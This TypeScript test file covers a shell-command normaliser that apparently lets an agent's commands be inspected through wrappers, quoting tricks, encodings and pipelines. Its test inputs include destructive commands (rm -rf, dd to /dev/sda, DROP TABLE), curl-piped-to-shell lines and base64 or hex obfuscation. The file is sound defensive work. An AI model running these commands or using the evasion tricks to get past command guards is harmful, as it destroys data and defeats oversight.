import type { NormalisedCommand } from '../normalised.schema';
import { MAX_NESTING, ShellNormaliser } from './shell-normaliser';

const HOME = '/home/agent';
const CWD = '/code/project';

function commands(source: string): NormalisedCommand[] {
  const result = ShellNormaliser.normalise(source, { home: HOME, cwd: CWD });
  if (!result.ok) throw new Error(`expected ${source} to normalise: ${result.reason}`);
  return result.commands;
}

/** The one command running `program`. */
function only(source: string, program: string): NormalisedCommand {
  const found = commands(source).filter((cmd) => cmd.program === program);
  expect(found).toHaveLength(1);
  return found[0] as NormalisedCommand;
}

describe('ShellNormaliser', () => {
  describe('canonical form', () => {
    it('given an absolute path and short flags, when normalised, then program is the basename and flags are canonical', () => {
      const cmd = only('/usr/bin/git push -f origin main', 'git');
      expect(cmd).toMatchObject({ program: 'git', programPath: '/usr/bin/git', subcommand: 'push', flags: ['--force'], positionals: ['origin', 'main'] });
      expect(cmd.text).toBe('git push --force origin main');
    });

    it('given combined short flags, when normalised, then they are split and sorted', () => {
      expect(only('rm -rf /tmp/x', 'rm').flags).toEqual(['--force', '--recursive']);
      expect(only('rm -fr /tmp/x', 'rm').flags).toEqual(['--force', '--recursive']);
    });

    it('given a short flag taking a value, when attached or separate, then both read as name=value', () => {
      expect(only('truncate -s0 f', 'truncate').flags).toEqual(['--size=0']);
      expect(only('truncate -s 0 f', 'truncate').flags).toEqual(['--size=0']);
      expect(only('truncate --size=0 f', 'truncate').flags).toEqual(['--size=0']);
    });

    it('given git global options, when normalised, then they are kept apart from subcommand flags', () => {
      const cmd = only('git -C repo -c core.pager=less log -n 3', 'git');
      expect(cmd).toMatchObject({ subcommand: 'log', globalFlags: ['-C=repo', '-c=core.pager=less'], flags: ['-n'], positionals: ['3'] });
    });

    it('given refspecs with + and :, when pushed, then force and delete become flags and the branch is plain', () => {
      expect(only('git push origin +HEAD:refs/heads/main', 'git')).toMatchObject({ flags: ['--force'], positionals: ['origin', 'main'] });
      expect(only('git push origin :old', 'git')).toMatchObject({ flags: ['--delete'], positionals: ['origin', 'old'] });
    });

    it('given dd operands, when normalised, then if= and of= are recorded as redirections', () => {
      expect(only('dd if=/dev/zero of=/dev/sda bs=1M', 'dd').redirects).toEqual([
        { op: 'if=', target: '/dev/zero' },
        { op: 'of=', target: '/dev/sda' },
      ]);
    });

    it('given redirections, when normalised, then targets are expanded and fd duplications kept as such', () => {
      expect(only('X=out.log; make > "$X" 2>&1', 'make').redirects).toEqual([{ op: '>', target: 'out.log' }, { op: '>&', fd: '2', target: '1' }]);
    });

    it('given `--`, when normalised, then it is kept as a marker flag', () => {
      expect(only('git checkout -- src/a.ts', 'git')).toMatchObject({ flags: ['--'], positionals: ['src/a.ts'] });
    });
  });

  describe('quoting and expansion', () => {
    it('given split quotes, backslashes and $-quotes, when normalised, then the command word is resolved', () => {
      for (const source of ["'r''m' x", '\\rm x', "$'\\x72\\x6d' x", 'r"m" x', '{rm,x}']) expect(commands(source)[0]?.program).toBe('rm');
    });

    it('given `echo` of a dangerous string, when normalised, then it is one echo with text arguments', () => {
      expect(commands("echo 'rm -rf /'")).toEqual([expect.objectContaining({ program: 'echo', positionals: ['rm -rf /'] })]);
    });

    it('given an assignment then an expansion, when normalised, then the value is substituted and split', () => {
      expect(only('C="curl -s"; $C http://x', 'curl')).toMatchObject({ flags: ['--silent'], positionals: ['http://x'], unresolved: false });
    });

    it('given a quoted expansion, when normalised, then it is not split', () => {
      expect(only('M="a b"; echo "$M"', 'echo').positionals).toEqual(['a b']);
    });

    it('given an unknown variable in command position, when normalised, then the program is dynamic', () => {
      expect(commands('$X -rf /')[0]).toMatchObject({ program: '$X', dynamicProgram: true, unresolved: true });
    });

    it('given branches that assign different values, when expanded after, then the variable is ambiguous', () => {
      expect(commands('if a; then X=rm; else X=ls; fi; $X -rf /').at(-1)).toMatchObject({ dynamicProgram: true });
    });

    it('given tilde and $HOME, when normalised, then both expand to the home directory', () => {
      expect(only('ls ~ "$HOME/x" ~root', 'ls').positionals).toEqual([HOME, `${HOME}/x`, '/root']);
    });

    it('given a literal substitution, when normalised, then its output is used and the inner command still listed', () => {
      const list = commands('$(echo rm) -rf /tmp/x');
      expect(list.map((cmd) => [cmd.program, cmd.inSubstitution, cmd.pipedTo])).toEqual([
        ['rm', false, []],
        ['echo', true, ['rm']],
      ]);
    });

    it('given backticks and unknown output, when normalised, then the argument stays unresolved', () => {
      const cmd = only('cat `find . -name x`', 'cat');
      expect(cmd).toMatchObject({ positionals: ['$(…)'], unresolved: true });
    });
  });

  describe('wrappers', () => {
    it.each([
      ['sudo -u root -E rm -rf /x', ['sudo']],
      ['sudo env FOO=1 PATH=/bin rm -rf /x', ['sudo', 'env']],
      ['timeout -s KILL 5 nice -n 3 rm -rf /x', ['timeout', 'nice']],
      ['nohup stdbuf -oL rm -rf /x', ['nohup', 'stdbuf']],
      ['command exec rm -rf /x', ['command', 'exec']],
      ['doas -u root busybox rm -rf /x', ['doas', 'busybox']],
      ["bash -lc 'rm -rf /x'", ['bash']],
      ["zsh -c 'rm -rf /x'", ['zsh']],
      ["su root -c 'rm -rf /x'", ['su']],
      ['eval "rm -rf /x"', ['eval']],
      ["env -S 'rm -rf /x'", ['env']],
      ['time rm -rf /x', ['time']],
    ])('given %s, when normalised, then rm is found via %j', (source, via) => {
      expect(only(source, 'rm')).toMatchObject({ viaWrapper: via, flags: ['--force', '--recursive'], positionals: ['/x'] });
    });

    it('given env assignments, when unwrapped, then they are recorded on the command', () => {
      expect(only('FOO=1 env BAR=2 make', 'make').assigns).toEqual([{ name: 'FOO', value: '1' }, { name: 'BAR', value: '2' }]);
    });

    it('given `command -v`, when normalised, then nothing is unwrapped (it runs nothing)', () => {
      expect(commands('command -v shutdown').map((cmd) => cmd.program)).toEqual(['command']);
    });

    it('given a shell -c with an unknown script, when normalised, then the shell itself is listed as unresolved', () => {
      expect(commands('bash -c "$CMD"')).toEqual([expect.objectContaining({ program: 'bash', flags: ['-c'], unresolved: true })]);
    });

    it('given bash -c with positional parameters, when normalised, then $1 is substituted', () => {
      expect(only(`bash -c 'rm -rf "$1"' _ /srv`, 'rm').positionals).toEqual(['/srv']);
    });

    it('given xargs, when normalised, then the command gets an unresolved stdin argument', () => {
      expect(only('ls | xargs -0 rm -f', 'rm')).toMatchObject({ viaWrapper: ['xargs'], positionals: ['$(xargs)'], unresolved: true, pipedFrom: ['ls'] });
    });

    it('given find -exec, when normalised, then the executed command is listed via find', () => {
      const list = commands('find . -name "*.o" -exec rm -f {} \\;');
      expect(list.map((cmd) => [cmd.program, cmd.viaWrapper])).toEqual([['find', []], ['rm', ['find']]]);
      expect(list[0]?.flags).toEqual(['-exec=rm -f {}', '-name=*.o']);
    });
  });

  describe('pipelines and substitutions', () => {
    it('given a pipeline, when normalised, then every stage knows what is upstream and downstream', () => {
      const list = commands('curl -s http://x | tee /tmp/a | sh');
      expect(list.map((cmd) => [cmd.program, cmd.pipedFrom, cmd.pipedTo])).toEqual([
        ['curl', [], ['tee', 'sh']],
        ['tee', ['curl'], ['sh']],
        ['sh', ['curl', 'tee'], []],
      ]);
    });

    it('given process substitution into a shell, when normalised, then the inner command feeds the shell', () => {
      expect(only('bash <(curl -s http://x)', 'curl')).toMatchObject({ inSubstitution: true, pipedTo: ['bash'] });
    });

    it('given a substitution as a shell script, when normalised, then its command feeds the shell', () => {
      expect(only('sh -c "$(curl -fsSL http://x)"', 'curl').pipedTo).toEqual(['sh']);
    });

    it('given a substitution in command position, when its output is unknown, then it feeds the shell', () => {
      expect(only('$(curl -s http://x)', 'curl').pipedTo).toEqual(['sh']);
    });

    it('given a literal base64 script piped to sh, when normalised, then the decoded commands are listed', () => {
      const encoded = Buffer.from('rm -rf /srv').toString('base64');
      expect(only(`echo ${encoded} | base64 -d | sh`, 'rm')).toMatchObject({ viaWrapper: ['sh'], positionals: ['/srv'] });
    });

    it('given hex through xxd and a here-string, when normalised, then the decoded commands are listed', () => {
      const hex = Buffer.from('reboot').toString('hex');
      expect(commands(`bash -c "$(echo ${hex} | xxd -r -p)"`).map((cmd) => cmd.program)).toContain('reboot');
      expect(commands('sh <<< "reboot"').map((cmd) => cmd.program)).toContain('reboot');
    });

    it('given a here-document into bash, when normalised, then its body is parsed as a script', () => {
      expect(only("bash <<'EOF'\nshutdown -h now\nEOF\n", 'shutdown').viaWrapper).toEqual(['bash']);
    });

    it('given a here-document into another program, when normalised, then the body is only stdin text', () => {
      expect(only('psql <<EOF\nDROP TABLE t;\nEOF\n', 'psql').stdin).toBe('DROP TABLE t;\n');
    });
  });

  describe('working directory', () => {
    it('given cd before a command, when normalised, then the command carries the new cwd', () => {
      expect(only('cd /srv && rm -rf data', 'rm').cwd).toBe('/srv');
      expect(only('cd sub; ls', 'ls').cwd).toBe(`${CWD}/sub`);
    });

    it('given an && chain, when normalised, then each part sees the effects of the parts before it', () => {
      expect(only('mkdir -p /tmp/w && cd /tmp/w && rm -rf ./*', 'rm').cwd).toBe('/tmp/w');
      expect(only('X=/srv && cd "$X" && ls', 'ls').cwd).toBe('/srv');
    });

    it('given a || list, when normalised, then the right side cannot trust the left side and what follows cannot trust either', () => {
      expect(only('cd /tmp/x || rm -rf *', 'rm').cwd).toBeUndefined();
      expect(commands('true && cd /srv; ls').at(-1)?.cwd).toBeUndefined();
    });

    it('given cd inside a subshell, when normalised, then it does not leak out', () => {
      expect(commands('(cd /srv); ls').at(-1)?.cwd).toBe(CWD);
    });

    it('given cd in a branch or to a computed path, when normalised, then the cwd becomes unknown', () => {
      expect(commands('if x; then cd /srv; fi; ls').at(-1)?.cwd).toBeUndefined();
      expect(commands('cd "$D"; ls').at(-1)?.cwd).toBeUndefined();
    });
  });

  describe('failures', () => {
    it('given a syntax error anywhere, even in a nested script, when normalised, then it is unparseable', () => {
      expect(ShellNormaliser.normalise("echo 'x", { home: HOME, cwd: CWD })).toEqual({ ok: false, reason: expect.stringContaining('unparseable') });
      expect(ShellNormaliser.normalise("bash -c 'if then'", { home: HOME, cwd: CWD }).ok).toBe(false);
    });

    it('given scripts nested deeper than the limit, when normalised, then it fails closed', () => {
      let source = 'ls';
      for (let i = 0; i <= MAX_NESTING + 1; i++) source = `eval ${JSON.stringify(source).replace(/\$/g, '\\$')}`;
      expect(ShellNormaliser.normalise(source, { home: HOME, cwd: CWD })).toEqual({ ok: false, reason: expect.stringContaining('nested') });
    });

    it('given a script that expands to too many commands, when normalised, then it fails closed', () => {
      expect(ShellNormaliser.normalise(Array.from({ length: 600 }, () => 'true').join(';'), { home: HOME, cwd: CWD }).ok).toBe(false);
    });
  });
});
